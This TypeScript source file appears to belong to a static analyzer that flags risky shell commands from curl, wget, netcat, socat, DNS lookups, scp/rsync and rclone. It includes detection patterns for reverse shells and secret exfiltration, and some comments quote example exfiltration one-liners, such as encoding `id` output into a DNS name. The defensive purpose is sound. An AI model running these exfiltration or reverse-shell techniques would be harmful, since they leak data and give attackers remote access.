import type { CommandCheck, Context, Invocation } from '../analysis/context';
import { noData, unknownData } from '../analysis/word';
import { judgeSshOptions } from './sshOptions';
import { judgeWholePlaces } from '../analysis/wholePlaces';

/** The clipboard holds whatever was copied last, passwords included. */
export const clipboard = /\b(?:get-clipboard|gcb|pbpaste|wl-paste|xclip\s+-\w*o|xsel\s+-\w*o|xsel\s+--output)\b/i;

/** What is encoded to fit into an address was not meant to be read by everybody. */
const encodes = /\|\s*(?:base64|base32|xxd|od|hexdump|openssl)\b/;

export const curl: CommandCheck = (invocation, context) => {
  const insecure = invocation.has('-k --insecure');
  const method = invocation.value('-X --request')?.value.toUpperCase();
  if (
    method === 'DELETE' ||
    invocation.args.operands.some(
      (word) =>
        /\/(?:doDelete|delete\w*|delete-batch|_delete_by_query|_close|destroy|purge|terminate|shutdown)(?:[?/]|$)/i.test(
          word.value,
        ) &&
        method !== undefined &&
        method !== 'GET',
    )
  ) {
    context.report('network.delete-request', invocation.span, { target: invocation.args.operands[0]?.raw ?? '' });
  }
  for (const url of invocation.args.operands) {
    if (url.source?.secret === true || context.isSecret(url.value)) {
      context.report('exfil.secret', url.span);
    } else if (clipboard.test(url.raw) || (url.source !== undefined && encodes.test(url.raw))) {
      context.report('exfil.file', url.span, { target: url.raw });
    } else if (/^(?:file|dict|gopher|ldap|scp|sftp|smb|telnet):/i.test(url.value)) {
      if (/^file:/i.test(url.value)) {
        context.readPath({ ...url, value: url.value.replace(/^file:\/\//i, '') });
      }
    }
  }
  const target = invocation.value('-o --output');
  const remoteName = invocation.has('-O --remote-name --remote-name-all -J');
  const data = { ...unknownData, network: true };
  if (target !== undefined && target.value !== '-') {
    context.report('write', target.span, { target: target.raw });
    context.writePath(target, data);
  }
  if (remoteName) {
    for (const url of invocation.args.operands) {
      const name = /\/([^/?#]+)(?:[?#].*)?$/.exec(url.value)?.[1];
      if (name !== undefined) {
        context.scope.files.set(name, data);
      }
    }
  }
  if (insecure) {
    context.report('evasion.tls-off-once', invocation.span);
  }
  return { output: target === undefined || target.value === '-' ? data : noData };
};

export const wget: CommandCheck = (invocation, context) => {
  const data = { ...unknownData, network: true };
  const target = invocation.value('-O --output-document');
  if (
    target?.value === '-' ||
    target?.value === '/dev/stdout' ||
    invocation.args.options.some((option) => /^-[a-zA-Z]*O-$/.test(option.word.value))
  ) {
    return { output: data };
  }
  if (target !== undefined) {
    context.writePath(target, data);
  } else if (!invocation.has('--spider')) {
    const folder = invocation.value('-P --directory-prefix')?.value;
    for (const url of invocation.args.operands) {
      const name =
        /\/([^/?#]+)(?:[?#].*)?$/.exec(url.value.replace(/^\w+:\/\//, ''))?.[1] ?? url.value.replace(/^\w+:\/\//, '');
      context.scope.files.set(folder === undefined ? name : `${folder.replace(/\/$/, '')}/${name}`, data);
    }
  }
  return { output: noData };
};

export const netcat: CommandCheck = (invocation, context) => {
  if (invocation.has('-e -c --exec --sh-exec --lua-exec')) {
    context.report('shell.reverse', invocation.span);
    return { handled: true };
  }
  if (!invocation.stdin.none && !invocation.has('-z -h')) {
    context.report(invocation.stdin.secret ? 'exfil.secret' : 'exfil.file', invocation.span);
  }
  return { output: { ...unknownData, network: true } };
};

export const socat: CommandCheck = (invocation, context) => {
  const text = invocation.args.operands.map((word) => word.value).join(' ');
  if (/\b(?:exec|system|shell):/i.test(text)) {
    context.report(/\b(?:tcp|udp|openssl|ssl|sctp)\S*:/i.test(text) ? 'shell.reverse' : 'exec.inline', invocation.span);
  }
  judgeSocatFile(invocation, context);
  return undefined;
};

/** `socat -u FILE:name TCP:host:port` sends the file; devices and files that are created are no data of ours. */
function judgeSocatFile(invocation: Invocation, context: Context): void {
  const [from, to] = invocation.args.operands;
  const path = /^(?:file|open|gopen|rdonly):([^,]+)((?:,.*)?)$/i.exec(from?.value ?? '');
  const toNetwork = /^(?:tcp|udp|sctp|openssl|ssl|socks|proxy)\w*:/i.test(to?.value ?? '');
  if (
    from !== undefined &&
    path?.[1] !== undefined &&
    toNetwork &&
    !/^\/dev\/|creat|wronly/.test(`${path[1]}${path[2] ?? ''}`)
  ) {
    context.report(context.isSecret(path[1]) ? 'exfil.secret' : 'exfil.file', from.span, { target: from.raw });
  }
}

const carriesInput = /\$_\.[\w-]+\.[a-z]{2,}/i;

/** A looked-up name that was put together from data: `$(id | base64).example.com` tells it to whoever owns the zone. */
export const nameLookup: CommandCheck = (invocation, context) => {
  const names = invocation.words.slice(1);
  const secret = names.find((word) => word.source?.secret === true);
  const carried = names.find(
    (word) =>
      /\uFFFC[\w-]*\./.test(word.value) &&
      (word.hiding === 'computed' ||
        word.source?.decoded === true ||
        word.source?.secret === true ||
        // `for /f %i in ('whoami') do nslookup %i.example.com`, `Get-Clipboard | % { Resolve-DnsName "$_.example.com" }`
        (context.shell === 'cmd' && word.source !== undefined && !word.source.file) ||
        (/\$_\b/.test(word.raw) && !invocation.stdin.file && carriesInput.test(word.raw))),
  );
  // `ping -p` fills the packets with what it is given.
  const pattern = /^ping6?$/.test(invocation.name) ? invocation.value('-p') : undefined;
  if (pattern !== undefined && (pattern.source !== undefined || pattern.hiding === 'computed')) {
    context.report(pattern.source?.secret === true ? 'exfil.secret' : 'exfil.file', pattern.span, {
      target: pattern.raw,
    });
    return undefined;
  }
  if (secret !== undefined) {
    context.report('exfil.secret', secret.span, { target: secret.raw });
  } else if (carried !== undefined) {
    context.report('exfil.file', carried.span, { target: carried.raw });
  } else {
    // What stands before the domain is only known at run time, and the owner of the domain gets to read it.
    const open = names.find((word) => /\uFFFC[\w-]*\.[\w-]+\.\w/.test(word.value));
    if (open !== undefined) {
      context.report('send', open.span, { target: open.raw });
    }
  }
  return undefined;
};

/** scp, rsync and friends: `host:path` is elsewhere. */
const isRemotePath = (text: string): boolean =>
  /^(?:[\w.-]+@)?[\w.-]+:(?!\/\/\\)|^(?:s3|gs|sftp|scp|rsync|ssh|ftp|https?|az|b2|oss|\w+):\/\//.test(text) &&
  !/^[A-Za-z]:[\\/]/.test(text);

export const remoteCopy: CommandCheck = (invocation, context) => {
  judgeSshOptions(invocation, context);
  const { operands } = invocation.args;
  const target = operands.at(-1);
  const sources = operands.slice(0, -1);
  if (target === undefined) {
    return undefined;
  }
  if (isRemotePath(target.value)) {
    const secret = sources.find((word) => context.isSecret(word.value));
    if (secret !== undefined) {
      context.report('exfil.secret', secret.span, { target: secret.raw });
    } else if (sources.some((word) => /^\/etc\/(?:passwd|group)/.test(word.value))) {
      context.report('exfil.file', invocation.span);
    }
    judgeWholePlaces(sources, context);
    if (
      /:\/(?:etc|s?bin|usr|var\/(?!tmp|www)\w*|boot|root|lib\w*)(?:\/|$)|authorized_keys|\.(?:bashrc|profile|zshrc)/.test(
        target.value,
      )
    ) {
      context.report('system.accounts-write', target.span, { target: target.raw });
    }
  } else {
    context.writePath(target, { ...unknownData, network: sources.some((word) => isRemotePath(word.value)) });
  }
  const command = invocation.value('-e --rsh --rsync-path -S');
  if (
    command !== undefined &&
    /\s|\//.test(command.value) &&
    !/^ssh(?:\s+-[pio46lJA]\s*\S*|\s+-o\s*(?!Proxy)\S+)*$/i.test(command.value)
  ) {
    context.report('exec.inline', command.span);
    context.shellText(command.value, 'bash', command, noData);
  }
  return undefined;
};

/** `rclone copy FOLDER remote:place`. */
export const copyToRemote: CommandCheck = (invocation, context) => {
  const { operands } = invocation.args;
  if (/^[\w-]{2,}:/.test(operands.at(-1)?.value ?? '') && !invocation.has('-n --dry-run')) {
    judgeWholePlaces(operands.slice(0, -1), context);
  }
  return undefined;
};

/** Clients that fetch: what they keep came from the network, and some run commands of their own. */
export const fetchFiles: CommandCheck = (invocation, context) => {
  for (const url of invocation.args.operands) {
    const name = /\/([^/?#]+)(?:[?#].*)?$/.exec(url.value.replace(/^\w+:\/\//, ''))?.[1];
    if (name !== undefined) {
      context.scope.files.set(name, { ...unknownData, network: true });
    }
  }
  const folder = invocation.value('-d --dir')?.value;
  const target = invocation.value('-o --out --output')?.value;
  if (target !== undefined) {
    const path = folder === undefined ? target : `${folder.replace(/\/$/, '')}/${target}`;
    context.scope.files.set(path, { ...unknownData, network: true });
  }
  if (invocation.name === 'ftp' && invocation.words.some((word) => word.value.startsWith('-s:'))) {
    // The script says what is fetched; any program run afterwards may be it.
    context.scope.fetched = true;
  }
  const script = invocation.value('-e -c')?.value ?? '';
  if (invocation.name === 'lftp' && /(?:^|[;&|\s])(?:m?rm|rmdir|mirror[^;]*--delete)\b/.test(script)) {
    context.report('delete-remote', invocation.span);
  }
  judgeSshOptions(invocation, context);
  // Clients with a prompt of their own run `!command` here.
  for (const line of invocation.stdin.text?.split('\n') ?? []) {
    const local = /^\s*!(.+)/.exec(line)?.[1];
    if (local !== undefined) {
      context.shellText(local, 'bash', invocation.span, noData);
    }
  }
  if (invocation.args.operands.some((word) => word.value === 'DELETE')) {
    context.report('network.delete-request', invocation.span);
  }
  return undefined;
};
